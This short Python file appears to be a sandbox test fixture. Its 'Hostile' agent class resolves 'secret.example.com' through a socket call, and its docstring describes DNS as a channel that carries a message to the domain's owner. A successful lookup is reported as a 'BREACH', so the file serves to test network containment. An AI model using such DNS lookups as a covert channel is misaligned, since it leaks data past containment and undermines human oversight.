"""Ask a name server, which would carry a message to its owner."""

import socket


class Hostile:
    def __init__(self, target):
        self.target = target

    def act(self, obs, info):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM):
            raise AssertionError(f"BREACH: {socket.getaddrinfo('secret.example.com', 80)}")
